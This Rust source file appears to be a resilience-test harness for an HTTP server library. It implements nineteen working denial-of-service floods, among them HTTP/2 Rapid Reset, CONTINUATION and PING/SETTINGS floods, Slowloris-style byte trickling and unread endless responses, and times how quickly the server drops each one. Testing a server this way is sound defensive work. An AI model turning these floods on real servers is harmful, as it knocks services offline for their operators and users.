//! The floods, each as one attacker plays it until the server has had enough.

use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::LazyLock;
use std::task::{Context as TaskContext, Poll};
use std::time::{Duration, Instant};

use bequest_http::server::BoxError;
use bytes::Bytes;
use http_body::Body;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Outcome, connect};

/// How long an attacker that is sent away comes back.
const LONG: Duration = Duration::from_secs(5);

/// The widest window of HTTP/2.
const WIDEST: u32 = 0x7fff_ffff;

/// How many streams a connection may have.
const STREAMS: u32 = 200;

const HEADERS: u8 = 1;
const DATA: u8 = 0;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[derive(Clone, Copy, Debug)]
pub(crate) enum Attack {
    RapidReset,
    ResetsBegun,
    ResetsStubborn,
    MadeToReset,
    Continuation,
    EmptyData,
    TinyData,
    Ping,
    Settings,
    PingRead,
    SettingsRead,
    Nothing,
    HalfHeader,
    HalfBlock,
    ByteASecond,
    BlockByteASecond,
    NeverReads,
    WindowClosed,
    WindowOpen,
}

impl Attack {
    pub(crate) const ALL: [Attack; 19] = [
        Attack::RapidReset,
        Attack::ResetsBegun,
        Attack::ResetsStubborn,
        Attack::MadeToReset,
        Attack::Continuation,
        Attack::EmptyData,
        Attack::TinyData,
        Attack::Ping,
        Attack::Settings,
        Attack::PingRead,
        Attack::SettingsRead,
        Attack::Nothing,
        Attack::HalfHeader,
        Attack::HalfBlock,
        Attack::ByteASecond,
        Attack::BlockByteASecond,
        Attack::NeverReads,
        Attack::WindowClosed,
        Attack::WindowOpen,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "HTTP/2 streams opened and reset, coming back for 5 s",
            Attack::ResetsBegun => "HTTP/2 streams reset once their handlers run, for 5 s",
            Attack::ResetsStubborn => "the same, and the handlers do not heed their contexts",
            Attack::MadeToReset => "HTTP/2 streams that the server is made to reset, coming back for 5 s",
            Attack::Continuation => "HTTP/2 header block without end",
            Attack::EmptyData => "HTTP/2 empty DATA",
            Attack::TinyData => "HTTP/2 DATA of a byte each",
            Attack::Ping => "HTTP/2 PING, answers unread",
            Attack::Settings => "HTTP/2 SETTINGS, answers unread",
            Attack::PingRead => "HTTP/2 PING, answers read",
            Attack::SettingsRead => "HTTP/2 SETTINGS, answers read",
            Attack::Nothing => "not a byte",
            Attack::HalfHeader => "half a header",
            Attack::HalfBlock => "HTTP/2 half a header block",
            Attack::ByteASecond => "a byte of a header each second",
            Attack::BlockByteASecond => "HTTP/2 a byte of a header block each second",
            Attack::NeverReads => "an endless answer, unread",
            Attack::WindowClosed => "HTTP/2 an endless answer, its window left closed",
            Attack::WindowOpen => "HTTP/2 an endless answer, its window open, unread",
        }
    }

    /// Makes what it is to send, so that this is no part of what is measured.
    pub(crate) fn prepare(self) {
        if let Attack::RapidReset = self {
            LazyLock::force(&PAIRS);
        }
    }

    /// Plays it to its end.
    pub(crate) fn run(self, addr: SocketAddr) -> Pin<Box<dyn Future<Output = Outcome> + Send>> {
        Box::pin(async move {
            match self {
                Attack::RapidReset => return rapid_reset(addr).await,
                Attack::ResetsBegun => return end_what_has_begun(addr, "/flood", reset).await,
                Attack::ResetsStubborn => return end_what_has_begun(addr, "/stubborn", reset).await,
                Attack::MadeToReset => {
                    return end_what_has_begun(addr, "/flood", |id| window(id, WIDEST)).await;
                }
                _ => {}
            }
            let began = Instant::now();
            let mut stream = connect(addr).await?;
            // Its end shows by a failing write, and says nothing more.
            let _ = self.flood(&mut stream).await;
            Ok(vec![began.elapsed()])
        })
    }

    /// Sends what there is to send, until the server has had enough.
    async fn flood(self, stream: &mut TcpStream) -> std::io::Result<()> {
        let block = get_block("/flood");
        let open = frame(HEADERS, END_HEADERS, 1, &block);
        match self {
            Attack::RapidReset | Attack::ResetsBegun | Attack::ResetsStubborn | Attack::MadeToReset => {
                unreachable!("on their own")
            }
            Attack::Continuation => {
                let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x7e][..], &[b'y'; 16_256]].concat();
                let opening = frame(HEADERS, 0, 1, &block);
                repeat(stream, &opening, &frame(CONTINUATION, 0, 1, &field), false).await
            }
            Attack::EmptyData => repeat(stream, &open, &frame(DATA, 0, 1, &[]), false).await,
            Attack::TinyData => repeat(stream, &open, &frame(DATA, 0, 1, b"x"), false).await,
            Attack::Ping | Attack::PingRead => {
                let reads = matches!(self, Attack::PingRead);
                repeat(stream, &[], &frame(PING, 0, 0, b"flooding"), reads).await
            }
            Attack::Settings | Attack::SettingsRead => {
                let reads = matches!(self, Attack::SettingsRead);
                repeat(stream, &[], &frame(SETTINGS, 0, 0, &[]), reads).await
            }
            Attack::Nothing => closed(stream).await,
            Attack::HalfHeader => {
                stream.write_all(b"GET / HTTP/1.1\r\nhost: x\r\nx: ").await?;
                closed(stream).await
            }
            Attack::HalfBlock => {
                let opening = [preface(), frame(HEADERS, 0, 1, &block)].concat();
                stream.write_all(&opening).await?;
                closed(stream).await
            }
            Attack::ByteASecond => trickle(stream, b"GET / HTTP/1.1\r\nx: ").await,
            Attack::BlockByteASecond => {
                let block = frame(HEADERS, END_HEADERS, 1, &[0; 16_384]);
                trickle(stream, &[&preface()[..], &block[..9]].concat()).await
            }
            Attack::NeverReads => {
                stream
                    .write_all(b"GET /endless HTTP/1.1\r\nhost: x\r\n\r\n")
                    .await?;
                // What was sent waits unread; that the server has gone shows when it refuses what is sent to it.
                loop {
                    stream.write_all(b"x").await?;
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            }
            Attack::WindowClosed => {
                let get = frame(HEADERS, END_STREAM | END_HEADERS, 1, &get_block("/endless"));
                stream.write_all(&[preface(), get].concat()).await?;
                reset_of(stream, 1).await
            }
            Attack::WindowOpen => {
                let get = frame(HEADERS, END_STREAM | END_HEADERS, 1, &get_block("/endless"));
                let wide = [&[0, 4][..], &WIDEST.to_be_bytes()].concat();
                let opening = [
                    preface(),
                    frame(SETTINGS, 0, 0, &wide),
                    window(0, WIDEST - 0xffff),
                    get,
                ];
                stream.write_all(&opening.concat()).await?;
                loop {
                    stream.write_all(&frame(PING, ACK, 0, b"nothing.")).await?;
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            }
        }
    }
}

/// A body that always has more.
pub(crate) struct Endless;

impl Body for Endless {
    type Data = Bytes;
    type Error = BoxError;

    fn poll_frame(
        self: Pin<&mut Self>,
        _cx: &mut TaskContext<'_>,
    ) -> Poll<Option<Result<http_body::Frame<Bytes>, BoxError>>> {
        Poll::Ready(Some(Ok(http_body::Frame::data(Bytes::from_static(
            &[b'x'; 16 * 1024],
        )))))
    }
}

/// Streams that are opened and reset, one behind the other, from the beginning of a connection on. Made once: an attacker spends
/// nothing but the sending.
static PAIRS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let get = get_block("/flood");
    let pair = |id| [frame(HEADERS, END_STREAM | END_HEADERS, id, &get), reset(id)].concat();
    [preface(), (0..30_000).flat_map(|nth| pair(2 * nth + 1)).collect()].concat()
});

/// Opens streams and resets them, as fast as it can, and comes back when it is sent away.
async fn rapid_reset(addr: SocketAddr) -> Outcome {
    let (began, mut open) = (Instant::now(), Vec::new());
    while began.elapsed() < LONG {
        let connected = Instant::now();
        let mut stream = connect(addr).await?;
        let (mut read, mut write) = stream.split();
        let mut nowhere = tokio::io::sink();
        let sends = async {
            match write.write_all(&PAIRS).await {
                Ok(()) => std::future::pending().await,
                Err(error) => error,
            }
        };
        let sent_away = tokio::select! {
            _ = sends => true,
            // It does not wait until nobody takes what it sends.
            _ = tokio::io::copy(&mut read, &mut nowhere) => true,
            () = tokio::time::sleep(LONG.saturating_sub(began.elapsed())) => false,
        };
        if sent_away {
            open.push(connected.elapsed());
        }
    }
    Ok(open)
}

/// Fills its connection with streams whose handlers begin, and ends them all in the same breath in which it opens as many
/// again; comes back when it is sent away.
async fn end_what_has_begun(addr: SocketAddr, path: &str, end: fn(u32) -> Vec<u8>) -> Outcome {
    let (began, mut open) = (Instant::now(), Vec::new());
    while began.elapsed() < LONG {
        let connected = Instant::now();
        let mut stream = connect(addr).await?;
        let mut bytes = preface();
        let mut next = 1;
        while began.elapsed() < LONG {
            let ids = (0..STREAMS).map(|nth| next + 2 * nth);
            let get = get_block(path);
            bytes.extend(
                ids.clone()
                    .flat_map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, &get)),
            );
            bytes.extend(frame(PING, 0, 0, &u64::from(next).to_be_bytes()));
            if stream.write_all(&bytes).await.is_err() || !answered(&mut stream, next).await {
                open.push(connected.elapsed());
                break;
            }
            bytes = ids.flat_map(end).collect();
            next += 2 * STREAMS;
        }
    }
    Ok(open)
}

/// Waits for the answer to the ping of this number; `false` if the connection is over.
async fn answered(stream: &mut TcpStream, number: u32) -> bool {
    let wanted = u64::from(number).to_be_bytes();
    while let Ok(got) = next_frame(stream).await {
        if got.kind == PING && got.flags & ACK != 0 && got.payload == wanted {
            return true;
        }
    }
    false
}

/// Waits until the server resets a stream, or closes.
async fn reset_of(stream: &mut TcpStream, id: u32) -> std::io::Result<()> {
    loop {
        let got = next_frame(stream).await?;
        if got.kind == RST_STREAM && got.stream == id {
            return Ok(());
        }
    }
}

struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
    payload: Vec<u8>,
}

async fn next_frame(from: &mut TcpStream) -> std::io::Result<Frame> {
    let mut head = [0; 9];
    from.read_exact(&mut head).await?;
    let [a, b, c, kind, flags, stream @ ..] = head;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    from.read_exact(&mut payload).await?;
    Ok(Frame {
        kind,
        flags,
        stream: u32::from_be_bytes(stream),
        payload,
    })
}

/// Sends `opening`, and then the same frame until the server has had enough.
async fn repeat(stream: &mut TcpStream, opening: &[u8], frame: &[u8], reads: bool) -> std::io::Result<()> {
    let batch = frame.repeat((16 * 1024 / frame.len()).max(1));
    let (mut read, mut write) = stream.split();
    write.write_all(&[&preface()[..], opening].concat()).await?;
    let reading = async {
        match reads {
            true => tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop),
            false => std::future::pending().await,
        }
    };
    let writing = async { while write.write_all(&batch).await.is_ok() {} };
    tokio::select! {
        read = reading => read,
        () = writing => Ok(()),
    }
}

/// Sends `opening`, and then a byte each second.
async fn trickle(stream: &mut TcpStream, opening: &[u8]) -> std::io::Result<()> {
    stream.write_all(opening).await?;
    let (mut read, mut write) = stream.split();
    let trickle = async {
        while write.write_all(b"y").await.is_ok() {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    };
    let mut nowhere = tokio::io::sink();
    tokio::select! {
        () = trickle => Ok(()),
        read = tokio::io::copy(&mut read, &mut nowhere) => read.map(drop),
    }
}

/// Waits until the server has closed.
async fn closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let (mut read, _write) = stream.split();
    tokio::io::copy(&mut read, &mut tokio::io::sink()).await.map(drop)
}

fn preface() -> Vec<u8> {
    [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, &[]),
    ]
    .concat()
}

/// The header block of `GET path`, in the plainest coding there is.
fn get_block(path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).unwrap_or(u8::MAX);
    [
        &[0x82, 0x86, 0x04, length][..],
        path.as_bytes(),
        &[0x01, 4],
        b"test",
    ]
    .concat()
}

fn reset(id: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())
}

/// Makes a window wider. A stream whose window were wider than the widest is reset by the server.
fn window(id: u32, by: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, id, &by.to_be_bytes())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}
